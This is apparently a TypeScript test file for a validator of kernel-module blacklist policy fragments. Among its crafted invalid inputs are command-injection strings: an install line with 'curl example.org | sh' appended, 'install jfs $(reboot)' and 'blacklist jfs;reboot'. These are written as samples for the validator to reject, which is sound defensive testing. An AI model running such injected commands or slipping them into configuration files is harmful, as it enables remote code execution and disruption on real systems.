// The policy validator on real policy directories with crafted fragments: every
// problem is reported with the file and line at fault, and an invalid policy is a
// runtime failure (a packaging bug), never a half-loaded policy.

import { test } from "node:test";
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import { RuntimeFailure } from "../../src/errors.ts";
import { hookInstallLine, InvalidPolicy, loadPolicy } from "../../src/policy/policy.ts";

const POLICY_JSON = JSON.stringify({ version: "1.2.0", profiles: { default: "reviewed list", cis: "CIS" } });

function fragment(module: string, header: Record<string, string | null> = {}, body?: string[]): string {
  const fields: Record<string, string | null> = {
    filesystem: module,
    reason: "Rarely used and fuzzed to pieces; nobody here needs it.",
    since: "1.0.0",
    profiles: "default, cis",
    ...header,
  };
  const lines = ["# fsblacklist-policy: fragment"];
  for (const [key, value] of Object.entries(fields)) if (value !== null) lines.push(`# ${key}: ${value}`);
  lines.push(...(body ?? [`blacklist ${module}`, hookInstallLine(module)]));
  return lines.join("\n") + "\n";
}

/** Builds a policy directory, loads it, and returns the problems as "basename:line: message". */
function problemsOf(files: Record<string, string>, withPolicyJson = true): string[] {
  const dir = mkdtempSync(path.join(tmpdir(), "fsb-policy-"));
  try {
    if (withPolicyJson) writeFileSync(path.join(dir, "policy.json"), POLICY_JSON);
    for (const [name, text] of Object.entries(files)) writeFileSync(path.join(dir, name), text);
    try {
      loadPolicy(dir);
    } catch (error) {
      assert.ok(error instanceof InvalidPolicy);
      assert.ok(error instanceof RuntimeFailure);
      assert.equal(error.exitCode, 1);
      assert.ok(error.message.startsWith(`invalid policy in ${dir}:\n`));
      for (const p of error.problems) {
        const where = p.line === null ? p.file : `${p.file}:${p.line}`;
        assert.ok(error.message.includes(`  ${where}: ${p.message}`), "the message lists every problem with its place");
      }
      return error.problems.map((p) => `${path.basename(p.file)}${p.line === null ? "" : `:${p.line}`}: ${p.message}`);
    }
    return [];
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

test("a well-formed policy loads with every field", () => {
  const dir = mkdtempSync(path.join(tmpdir(), "fsb-policy-"));
  try {
    writeFileSync(path.join(dir, "policy.json"), POLICY_JSON);
    writeFileSync(
      path.join(dir, "60-blacklist_fs-reiserfs.conf"),
      fragment("reiserfs", { description: "ReiserFS 3", references: "CVE-2023-52599, https://example.org/x", since: "1.2.0", kernels: "<6.13.0" }),
    );
    writeFileSync(path.join(dir, "60-blacklist_fs-freevxfs.conf"), fragment("freevxfs", { filesystem: "vxfs", profiles: "cis" }));
    const policy = loadPolicy(dir);
    assert.equal(policy.version, "1.2.0");
    assert.deepEqual(policy.profiles, { default: "reviewed list", cis: "CIS" });
    assert.equal(policy.versionFile, path.join(dir, "policy.json"));
    assert.deepEqual(policy.entries, [
      {
        module: "freevxfs",
        filesystems: ["vxfs"],
        description: null,
        reason: "Rarely used and fuzzed to pieces; nobody here needs it.",
        references: [],
        since: "1.0.0",
        kernels: null,
        profiles: ["cis"],
        file: path.join(dir, "60-blacklist_fs-freevxfs.conf"),
      },
      {
        module: "reiserfs",
        filesystems: ["reiserfs"],
        description: "ReiserFS 3",
        reason: "Rarely used and fuzzed to pieces; nobody here needs it.",
        references: ["CVE-2023-52599", "https://example.org/x"],
        since: "1.2.0",
        kernels: "<6.13.0",
        profiles: ["default", "cis"],
        file: path.join(dir, "60-blacklist_fs-reiserfs.conf"),
      },
    ]);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("a missing or empty reason is rejected at its line", () => {
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", { reason: null }) }), [`60-blacklist_fs-jfs.conf:1: missing reason (a "# reason: ..." header line)`]);
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", { reason: "" }) }), [`60-blacklist_fs-jfs.conf:3: missing reason (a "# reason: ..." header line)`]);
});

test("a bad kernel range, a range matching nothing, and a bad since are rejected at their lines", () => {
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", { kernels: "before 6.13" }) }), [
    `60-blacklist_fs-jfs.conf:6: kernels "before 6.13" is not a semver range such as "<6.13.0"`,
  ]);
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", { kernels: ">7.0.0 <6.0.0" }) }), [`60-blacklist_fs-jfs.conf:6: kernels ">7.0.0 <6.0.0" matches no kernel version`]);
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", { since: "v1" }) }), [`60-blacklist_fs-jfs.conf:4: since "v1" is not a semantic version such as 1.0.0`]);
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", { since: "1.3.0" }) }), [`60-blacklist_fs-jfs.conf:4: since 1.3.0 is newer than the policy version 1.2.0`]);
});

test("a name that is not a module name is rejected, in the file name and in the blacklist line", () => {
  assert.deepEqual(problemsOf({ "60-blacklist_fs-j$fs.conf": fragment("jfs") }), [
    `60-blacklist_fs-j$fs.conf: file name: "j$fs" is not a module name: it may contain only letters, digits, '_' and '-'`,
  ]);
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", {}, ["blacklist jfs.ko", hookInstallLine("jfs")]) }), [
    `60-blacklist_fs-jfs.conf:6: "jfs.ko" is not a module name: it may contain only letters, digits, '_' and '-'`,
  ]);
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", { filesystem: "jfs, iso 9660" }) }), [
    `60-blacklist_fs-jfs.conf:2: filesystem "iso 9660" may contain only letters, digits, '_' and '-'`,
  ]);
});

test("shell metacharacters are rejected anywhere in the blacklist and install lines but the exact hook line", () => {
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", {}, ["blacklist jfs;reboot", hookInstallLine("jfs")]) }), [
    `60-blacklist_fs-jfs.conf:6: shell metacharacter ';' in the blacklist line`,
  ]);
  const evil = `${hookInstallLine("jfs")}; curl example.org | sh`;
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", {}, ["blacklist jfs", evil]) }), [
    `60-blacklist_fs-jfs.conf:7: shell metacharacter '>' in an install line that is not the expected one: "${hookInstallLine("jfs")}"`,
  ]);
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", {}, ["blacklist jfs", "install jfs $(reboot)"]) }), [
    `60-blacklist_fs-jfs.conf:7: shell metacharacter '$' in an install line that is not the expected one: "${hookInstallLine("jfs")}"`,
  ]);
  // Without metacharacters, a different command is still not ours to run.
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", {}, ["blacklist jfs", "install jfs /bin/true"]) }), [
    `60-blacklist_fs-jfs.conf:7: the install line must read "${hookInstallLine("jfs")}"`,
  ]);
});

test("a backslash is rejected anywhere, since kmod would join a header comment with the directive after it", () => {
  const text = fragment("jfs", { profiles: "default, cis \\" });
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": text }), ["60-blacklist_fs-jfs.conf:5: backslash (kmod would join this line with the next)"]);
  // What the real kmod does with that file: the blacklist line becomes part of the comment.
  const dir = mkdtempSync(path.join(tmpdir(), "fsb-policy-"));
  try {
    writeFileSync(path.join(dir, "60-blacklist_fs-jfs.conf"), text);
    const result = spawnSync("modprobe", ["-C", dir, "-c"], { encoding: "utf8" });
    assert.equal(result.status, 0);
    assert.ok(!result.stdout.split("\n").includes("blacklist jfs"));
    assert.ok(result.stdout.split("\n").includes(hookInstallLine("jfs")));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("a blacklist line for another module than the file name is rejected", () => {
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", {}, ["blacklist minix", hookInstallLine("jfs")]) }), [
    `60-blacklist_fs-jfs.conf:6: the blacklist line names 'minix' but the file name is for 'jfs'`,
  ]);
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", {}, ["blacklist jfs", hookInstallLine("minix")]) }), [
    `60-blacklist_fs-jfs.conf:7: shell metacharacter '>' in an install line that is not the expected one: "${hookInstallLine("jfs")}"`,
  ]);
});

test("unknown or repeated header keys, unknown profiles, bad references and stray lines are rejected", () => {
  const text = [
    "# fsblacklist-policy: fragment",
    "# filesystem: jfs",
    "# reason: Rarely used and fuzzed to pieces; nobody here needs it.",
    "# reasons: typo",
    "# since: 1.0.0",
    "# since: 1.1.0",
    "# references: CVE-23-1, http://example.org",
    "# profiles: default, paranoid",
    "# just a note",
    "blacklist jfs",
    "options jfs iocharset=utf8",
    "# trailing comment",
    hookInstallLine("jfs"),
    "",
  ].join("\n");
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": text }), [
    "60-blacklist_fs-jfs.conf:4: unknown header key 'reasons' (known: filesystem, description, reason, references, since, kernels, profiles)",
    "60-blacklist_fs-jfs.conf:6: header key 'since' appears twice",
    `60-blacklist_fs-jfs.conf:9: header lines must read "# key: value"`,
    `60-blacklist_fs-jfs.conf:7: reference "CVE-23-1" is neither a CVE id (CVE-2023-52599) nor an https:// URL`,
    `60-blacklist_fs-jfs.conf:7: reference "http://example.org" is neither a CVE id (CVE-2023-52599) nor an https:// URL`,
    `60-blacklist_fs-jfs.conf:8: unknown profile "paranoid" (policy.json defines: default, cis)`,
    `60-blacklist_fs-jfs.conf:11: unexpected line: a fragment holds only its header, "blacklist jfs" and the install line`,
    "60-blacklist_fs-jfs.conf:12: comments belong in the header at the top of the file",
  ]);
});

test("missing lines, a missing marker and Windows line ends are rejected", () => {
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs", {}, ["blacklist jfs"]) }), [`60-blacklist_fs-jfs.conf:6: missing the install line "${hookInstallLine("jfs")}"`]);
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": "blacklist jfs\n" }), [`60-blacklist_fs-jfs.conf:1: the first line must be "# fsblacklist-policy: fragment"`]);
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs").replaceAll("\n", "\r\n") }), [
    "60-blacklist_fs-jfs.conf:1: carriage return (the file must use Unix line ends)",
    "60-blacklist_fs-jfs.conf:2: carriage return (the file must use Unix line ends)",
    "60-blacklist_fs-jfs.conf:3: carriage return (the file must use Unix line ends)",
    "60-blacklist_fs-jfs.conf:4: carriage return (the file must use Unix line ends)",
    "60-blacklist_fs-jfs.conf:5: carriage return (the file must use Unix line ends)",
    "60-blacklist_fs-jfs.conf:6: carriage return (the file must use Unix line ends)",
    "60-blacklist_fs-jfs.conf:7: carriage return (the file must use Unix line ends)",
  ]);
});

test("policy.json must exist and be well formed; stray files and shared filesystem types are rejected", () => {
  assert.deepEqual(problemsOf({ "60-blacklist_fs-jfs.conf": fragment("jfs") }, false), ["policy.json: missing (it holds the policy version and its profiles)"]);
  assert.deepEqual(problemsOf({ "policy.json": '{"version": "1.0", "profiles": {"cis": "x"}, "extra": 1}' }, false), [
    "policy.json: unknown key 'extra'",
    `policy.json: "version" must be a semantic version such as "1.0.0"`,
    `policy.json: "profiles" must define "default"`,
  ]);
  const json = problemsOf({ "policy.json": '{\n  "version": "1.0.0",\n  "profiles": {,}\n}' }, false);
  assert.equal(json.length, 1);
  assert.match(json[0]!, /^policy\.json:3: not valid JSON: /);
  assert.deepEqual(problemsOf({ README: "notes\n", "60-blacklist_fs-jfs.conf.bak": fragment("jfs") }), [
    "60-blacklist_fs-jfs.conf.bak: unexpected file: the policy holds only policy.json and 60-blacklist_fs-<module>.conf fragments",
    "README: unexpected file: the policy holds only policy.json and 60-blacklist_fs-<module>.conf fragments",
  ]);
  assert.deepEqual(
    problemsOf({
      "60-blacklist_fs-ntfs.conf": fragment("ntfs", { kernels: "<6.9.0" }),
      "60-blacklist_fs-ntfs3.conf": fragment("ntfs3", { filesystem: "ntfs3, ntfs", kernels: ">=5.15.0" }),
      "60-blacklist_fs-old.conf": fragment("old", { filesystem: "old", kernels: "<5.0.0" }),
      "60-blacklist_fs-new.conf": fragment("new", { filesystem: "old", kernels: ">=5.0.0" }),
    }),
    ["60-blacklist_fs-ntfs3.conf: filesystem ntfs is also served by ntfs (60-blacklist_fs-ntfs.conf) on the same kernels"],
  );
});
